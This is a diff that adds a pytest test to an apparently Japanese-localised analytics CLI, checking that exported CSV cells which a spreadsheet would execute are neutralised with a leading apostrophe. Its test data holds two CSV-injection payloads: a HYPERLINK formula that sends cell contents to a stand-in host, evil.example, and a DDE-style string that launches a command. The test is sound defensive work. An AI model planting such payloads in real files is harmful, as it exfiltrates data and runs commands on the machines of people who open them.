@@ -76,3 +76,27 @@ def test_unknown_dimension_prints_choices_in_japanese_without_traceback(
     err = capsys.readouterr().err
     assert "分析軸「colour」" in err and "age_band" in err
     assert "Traceback" not in err
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
+    runner: CliRunner, kz: Kizuna, ws: Any, tmp_path: Path
+) -> None:
+    """OWASP CSV injection: a touchpoint named like a formula comes out as text."""
+    from kizuna.ingest.service import ingest_records, write_rejections_csv
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    records = [
+        {"received_at": "2024-02-10", "nps": 9, "touchpoint": formula},
+        {"received_at": "not a date", "nps": 3, "touchpoint": "@SUM(1+1)*cmd|' /C calc'!A0"},
+    ]
+    summary, _ = ingest_records(kz, ws.workspace, "feedback", records)
+    out = runner.invoke(
+        app, ["metrics", "nps", "--workspace", ws.slug, "--by", "touchpoint", "--format", "csv"]
+    )
+    assert out.exit_code == 0, out.output
+    rows = list(csv.DictReader(io.StringIO(out.output)))
+    assert [r["touchpoint"] for r in rows] == ["'" + formula]
+    report = tmp_path / "rejected.csv"
+    assert write_rejections_csv(kz, summary.run_id, report) == 1
+    written = list(csv.DictReader(io.StringIO(report.read_text("utf-8-sig"))))
+    assert written[0]["touchpoint"].startswith("'@SUM")
